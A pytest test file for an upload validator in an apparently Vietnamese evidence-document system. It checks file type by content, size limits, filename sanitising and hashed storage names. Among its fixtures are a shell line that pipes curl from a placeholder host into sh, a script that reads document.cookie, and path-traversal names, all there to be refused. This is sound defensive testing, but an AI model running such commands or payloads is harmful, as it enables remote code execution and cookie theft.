"""Upload checks for evidence documents: type by content, size, names, hashed storage names. No database."""

from __future__ import annotations

import hashlib
import io
import re
import unicodedata
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from tincay.common.files import (
    ALLOWED_TYPES,
    CHUNK_SIZE,
    CheckedUpload,
    UploadRejected,
    inspect_upload,
    safe_filename,
    storage_name,
)

pytestmark = pytest.mark.usefixtures("english")

MB = 1024 * 1024
LIMIT = 5 * MB

# ------------------------------------------------------------------------------------------- samples

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000b49444154789c6360000200000500017a5eab3f0000000049454e44ae426082"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(32) + b"\xff\xd9"
TIFF = b"II*\x00\x08\x00\x00\x00" + bytes(32)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00" + bytes(64)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)


def _zip(entries: dict[str, bytes | str], first_stored: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first_stored:
            archive.writestr(zipfile.ZipInfo(first_stored), entries[first_stored], compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            if name != first_stored:
                archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra: bytes) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Báo cáo kết quả</w:t></w:r></w:p></w:body></w:document>",
            **extra,
        }
    )


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Chỉ số"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pptx() -> bytes:
    return _zip({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<r/>", "ppt/presentation.xml": "<p/>"})


def odf(mimetype: str) -> bytes:
    return _zip({"mimetype": mimetype, "content.xml": "<office:document-content/>"}, first_stored="mimetype")


def ole2(*streams: str, sector: int = 512) -> bytes:
    """A compound file: header sector, then a directory sector with a root entry and the given streams."""
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00").ljust(
        sector, b"\0"
    )
    entries = b""
    for name, kind in [("Root Entry", 5), *((stream, 2) for stream in streams)]:
        encoded = name.encode("utf-16-le") + b"\0\0"
        entries += encoded.ljust(64, b"\0") + len(encoded).to_bytes(2, "little") + bytes([kind]) + bytes(61)
    return header + bytes(sector * 3) + entries.ljust(sector, b"\0")


def check(content: bytes, name: str, max_bytes: int = LIMIT) -> CheckedUpload:
    return inspect_upload(io.BytesIO(content), name=name, max_bytes=max_bytes)


def refusal(content: bytes, name: str, max_bytes: int = LIMIT) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check(content, name, max_bytes)
    return caught.value


class Trickle(io.BytesIO):
    """A file that hands out at most ``step`` bytes per read and records the sizes asked for."""

    def __init__(self, content: bytes, step: int):
        super().__init__(content)
        self.step = step
        self.asked: list[int] = []
        self.handed = 0

    def read(self, size: int | None = -1) -> bytes:
        self.asked.append(-1 if size is None else size)
        limit = self.step if size is None or size < 0 else min(size, self.step)
        data = super().read(limit)
        self.handed += len(data)
        return data


# ------------------------------------------------------------------------------------ accepted types


@pytest.mark.parametrize(
    ("content", "name", "extension"),
    [
        (PDF, "Báo cáo.pdf", "pdf"),
        (docx(), "Kế hoạch.docx", "docx"),
        (xlsx(), "Bảng điểm.xlsx", "xlsx"),
        (pptx(), "Trình bày.pptx", "pptx"),
        (odf("application/vnd.oasis.opendocument.text"), "Văn bản.odt", "odt"),
        (odf("application/vnd.oasis.opendocument.spreadsheet"), "Bảng tính.ods", "ods"),
        (ole2("WordDocument", "1Table"), "Công văn.doc", "doc"),
        (ole2("Workbook"), "Số liệu.xls", "xls"),
        (ole2("Book"), "Số liệu Excel 95.xls", "xls"),
        (PNG_1X1, "Ảnh chụp.png", "png"),
        (JPEG, "Ảnh chụp.jpg", "jpg"),
        (TIFF, "Bản quét.tiff", "tiff"),
    ],
)
def test_accepted_types_are_detected_from_content(content, name, extension):
    checked = check(content, name)
    assert checked.extension == extension
    assert checked.content_type == ALLOWED_TYPES[extension]
    assert checked.original_name == name
    assert checked.size == len(content)


def test_allowed_types_hold_documents_and_images_only():
    assert set(ALLOWED_TYPES) == {"pdf", "docx", "xlsx", "pptx", "doc", "xls", "odt", "ods", "png", "jpg", "tiff"}


def test_sha256_is_the_digest_of_the_whole_content_and_the_file_is_rewound():
    content = PDF + bytes(3 * CHUNK_SIZE + 17)  # several chunks
    file = io.BytesIO(content)
    file.seek(123)
    checked = inspect_upload(file, name="dài.pdf", max_bytes=LIMIT)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.size == len(content)
    assert file.tell() == 0
    assert file.read() == content


def test_file_is_read_in_chunks_not_whole():
    file = Trickle(PDF + bytes(4 * CHUNK_SIZE), step=CHUNK_SIZE)
    inspect_upload(file, name="x.pdf", max_bytes=LIMIT)
    assert file.asked and all(0 < size <= CHUNK_SIZE for size in file.asked)


def test_short_reads_still_find_the_word_stream_of_a_legacy_doc():
    file = Trickle(ole2("WordDocument", sector=4096), step=7)  # directory entries split across reads
    checked = inspect_upload(file, name="cong-van.doc", max_bytes=LIMIT)
    assert checked.extension == "doc"
    assert checked.sha256 == hashlib.sha256(ole2("WordDocument", sector=4096)).hexdigest()


def test_django_uploaded_files_are_accepted():
    upload = SimpleUploadedFile("Báo cáo.pdf", PDF, content_type="text/html")  # the browser's claim is ignored
    checked = inspect_upload(upload, name=upload.name, max_bytes=LIMIT)
    assert (checked.extension, checked.content_type) == ("pdf", "application/pdf")
    assert upload.tell() == 0

    temporary = TemporaryUploadedFile("Bảng.xlsx", "application/octet-stream", 0, "utf-8")
    temporary.write(xlsx())
    temporary.size = temporary.tell()
    try:
        assert inspect_upload(temporary, name=temporary.name, max_bytes=LIMIT).extension == "xlsx"
        assert temporary.tell() == 0
    finally:
        temporary.close()


# --------------------------------------------------------------------------------- disguised content


@pytest.mark.parametrize("program", [ELF, MZ], ids=["elf", "mz"])
def test_executable_renamed_pdf_is_refused(program):
    error = refusal(program, "bao-cao.pdf")
    assert error.code == "type_not_allowed"
    assert "is not a PDF document" in str(error)
    assert "a program (executable)" in str(error)
    assert "Upload PDF, Word, Excel, OpenDocument or an image" in str(error)


def test_shell_script_renamed_pdf_is_refused():
    error = refusal(SHELL, "bao-cao.pdf")
    assert error.code == "type_not_allowed"
    assert "is not a PDF document" in str(error) and "script" in str(error)


def test_html_renamed_pdf_is_refused():
    error = refusal(HTML, "bao-cao.pdf")
    assert error.code == "type_not_allowed"
    assert "is not a PDF document" in str(error) and "web page (HTML)" in str(error)


def test_html_saved_as_xls_by_other_software_is_refused_with_advice():
    error = refusal(b"<html><table><tr><td>1</td></tr></table></html>", "xuat-du-lieu.xls")
    assert error.code == "type_not_allowed"
    assert "is not an Excel workbook" in str(error)
    assert "save it as .docx or .xlsx, or export it as PDF" in str(error)


def test_pdf_named_like_a_program_is_a_mismatch():
    for name in ("bao-cao.exe", "bao-cao.pdf.exe", "trang.html", "hinh.svg"):
        error = refusal(PDF, name)
        assert error.code == "type_mismatch"
        assert "rename the file to end in .pdf" in str(error)


def test_zip_archive_is_refused_even_named_pdf():
    error = refusal(_zip({"a.pdf": PDF, "b.docx": docx()}), "ho-so.pdf")
    assert error.code == "type_not_allowed"
    assert "is not a PDF document" in str(error) and "compressed archive (ZIP)" in str(error)
    assert "Extract the documents" in str(error)


def test_unclaimed_type_message_names_the_accepted_types():
    error = refusal(ELF, "chuong-trinh")
    assert error.code == "type_not_allowed"
    assert str(error).startswith("This file type is not accepted: “chuong-trinh” is a program (executable).")
    assert str(error).endswith("Upload PDF, Word, Excel, OpenDocument or an image (PNG, JPEG, TIFF).")


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (GIF, "anh.gif", "image in GIF format"),
        (RTF, "van-ban.doc", "Rich Text (RTF)"),
        (b"Chi la van ban thuong\n", "ghi-chu.txt", "plain text"),
        (odf("application/vnd.oasis.opendocument.presentation"), "trinh-bay.odp", "OpenDocument file other"),
        (ole2("PowerPoint Document"), "trinh-bay.ppt", "PowerPoint 97-2003"),
        (bytes(range(256)) * 4, "du-lieu.dat", "unrecognised type"),
        (b"\x00\x01\x02 binary", "du-lieu", "unrecognised type"),
    ],
)
def test_other_types_are_refused(content, name, words):
    error = refusal(content, name)
    assert error.code == "type_not_allowed"
    assert words in str(error)


def test_ole2_container_without_word_stream_is_not_a_doc():
    error = refusal(ole2("\x05SummaryInformation", "_StringData"), "cai-dat.doc")  # e.g. an installer (.msi)
    assert error.code == "type_not_allowed"
    assert "is not a Word document" in str(error)


def test_password_protected_office_file_is_refused_with_advice():
    error = refusal(ole2("EncryptionInfo", "EncryptedPackage"), "bang-diem.xlsx")
    assert error.code == "type_not_allowed"
    assert "is protected by a password" in str(error) and "Remove the password" in str(error)


def test_office_file_with_macros_is_refused():
    error = refusal(docx(**{"word/vbaProject.bin": b"\0" * 64}), "bao-cao.docx")
    assert error.code == "type_not_allowed"
    assert str(error).startswith("The file “bao-cao.docx” contains macros")
    assert "without macros" in str(error)


def test_harmless_mismatch_is_stored_under_the_detected_type():
    png = check(PNG_1X1, "anh.jpg")
    assert (png.extension, png.original_name) == ("png", "anh.png")
    word97 = check(ole2("WordDocument"), "Công văn.docx")
    assert (word97.extension, word97.original_name) == ("doc", "Công văn.doc")
    assert check(TIFF, "scan.TIF").original_name == "scan.tif"


def test_name_without_a_known_extension_gets_the_detected_one():
    assert check(PDF, "Kế hoạch số 05.KH-UBND").original_name == "Kế hoạch số 05.KH-UBND.pdf"
    assert check(PDF, "scan").original_name == "scan.pdf"
    assert check(PDF, "ghi-chu.txt").original_name == "ghi-chu.txt.pdf"


# ------------------------------------------------------------------------------------- size and name


def test_empty_file_is_refused():
    error = refusal(b"", "rong.pdf")
    assert error.code == "empty"
    assert "“rong.pdf” is empty" in str(error)


def test_file_over_the_limit_is_refused_with_the_limit_in_mb():
    error = refusal(PDF + bytes(MB), "lon.pdf", max_bytes=MB)
    assert error.code == "too_large"
    assert "larger than 1 MB" in str(error)
    assert check(PDF + bytes(MB - len(PDF)), "vua.pdf", max_bytes=MB).size == MB  # exactly the limit is fine


def test_reading_stops_once_the_limit_is_passed():
    file = Trickle(PDF + bytes(20 * MB), step=CHUNK_SIZE)
    with pytest.raises(UploadRejected):
        inspect_upload(file, name="lon.pdf", max_bytes=MB)
    assert file.handed <= MB + CHUNK_SIZE
    assert file.tell() == 0


def test_declared_size_over_the_limit_is_refused_before_reading():
    upload = SimpleUploadedFile("lon.pdf", PDF)
    upload.size = 2 * MB  # as Django's upload handler counted it: the content itself is not read
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(upload, name=upload.name, max_bytes=MB)
    assert caught.value.code == "too_large"


def test_fractional_limit_is_shown_with_a_decimal():
    assert "larger than 1.5 MB" in str(refusal(PDF + bytes(2 * MB), "lon.pdf", max_bytes=3 * MB // 2))


def test_absurdly_long_raw_name_is_refused():
    error = refusal(PDF, "a" * 2000 + ".pdf")
    assert error.code == "name"


def test_rejected_file_is_rewound():
    file = io.BytesIO(ELF)
    with pytest.raises(UploadRejected):
        inspect_upload(file, name="x.pdf", max_bytes=LIMIT)
    assert file.tell() == 0


def test_rejection_is_a_value_error_with_the_message_as_text():
    error = refusal(b"", "x.pdf")
    assert isinstance(error, ValueError)
    assert str(error) == error.message


# ---------------------------------------------------------------------------------------- safe names


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("C:\\Users\\x\\Báo cáo tháng 9.pdf", "Báo cáo tháng 9.pdf"),
        ("/var/www/../uploads/Kế hoạch.docx", "Kế hoạch.docx"),
        ("bao\x00cao\x07\x1b[31m.pdf", "baocao[31m.pdf"),
        ("dòng 1\ndòng 2\t.pdf", "dòng 1 dòng 2.pdf"),
        ('hồ<sơ>:"số|1"?*.pdf', "hồ sơ số 1.pdf"),
        ("  Biên   bản\u00a0họp  .PDF  ", "Biên bản họp.pdf"),
        ("bao-cao\u202efdp.exe", "bao-caofdp.exe"),
        ("a..b...pdf", "a.b.pdf"),
        (".htaccess", "tai-lieu.htaccess"),
        (".pdf", "tai-lieu.pdf"),
        ("...", "tai-lieu"),
        ("", "tai-lieu"),
        ("  \x00 ", "tai-lieu"),
        ("Quyết định 12.2025", "Quyết định 12.2025"),
    ],
)
def test_safe_filename(raw, expected):
    assert safe_filename(raw) == expected


def test_safe_filename_keeps_vietnamese_in_nfc():
    decomposed = unicodedata.normalize("NFD", "Kết quả đánh giá Phường Hải An.xlsx")
    result = safe_filename(decomposed)
    assert result == "Kết quả đánh giá Phường Hải An.xlsx"
    assert unicodedata.is_normalized("NFC", result)


def test_long_vietnamese_name_is_cut_and_keeps_its_extension():
    stem = ("Báo cáo tự đánh giá chỉ số phát triển bền vững của Ủy ban nhân dân phường " * 5)[:300]
    result = safe_filename(stem + ".docx")
    assert len(result) <= 150
    assert result.endswith(".docx")
    assert result.startswith("Báo cáo tự đánh giá")
    assert len(safe_filename(stem + ".pdf", max_length=60)) <= 60


def test_only_dots_fall_back_to_a_default_name():
    assert safe_filename("." * 40) == "tai-lieu"
    assert check(PDF, "....").original_name == "tai-lieu.pdf"


def test_display_name_of_an_upload_is_sanitised():
    checked = check(PDF, "C:\\fakepath\\..\\Báo cáo\x00 quý 3.pdf")
    assert checked.original_name == "Báo cáo quý 3.pdf"


# ------------------------------------------------------------------------------------------- storage


def test_storage_name_is_hashed_and_has_no_user_text():
    checked = check(PDF, "../../Báo cáo của tôi.pdf")
    stored = storage_name(checked)
    digest = hashlib.sha256(PDF).hexdigest()
    assert stored == f"evidence/{digest[:2]}/{digest[2:4]}/{digest}.pdf"
    assert re.fullmatch(r"evidence/[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{64}\.pdf", stored)
    assert "Báo" not in stored and ".." not in stored
    assert storage_name(checked, prefix="minh-chung/2026").startswith("minh-chung/2026/")


def test_storage_name_uses_the_detected_extension():
    assert storage_name(check(PNG_1X1, "anh.jpg")).endswith(".png")


@pytest.mark.parametrize("prefix", ["../evidence", "/evidence", "evidence/", "Evidence", ""])
def test_storage_name_refuses_odd_prefixes(prefix):
    with pytest.raises(ValueError):
        storage_name(check(PDF, "x.pdf"), prefix=prefix)


def test_storage_name_refuses_a_forged_checked_upload():
    forged = CheckedUpload("x.html", "html", "text/html", 1, "0" * 64)
    with pytest.raises(ValueError):
        storage_name(forged)
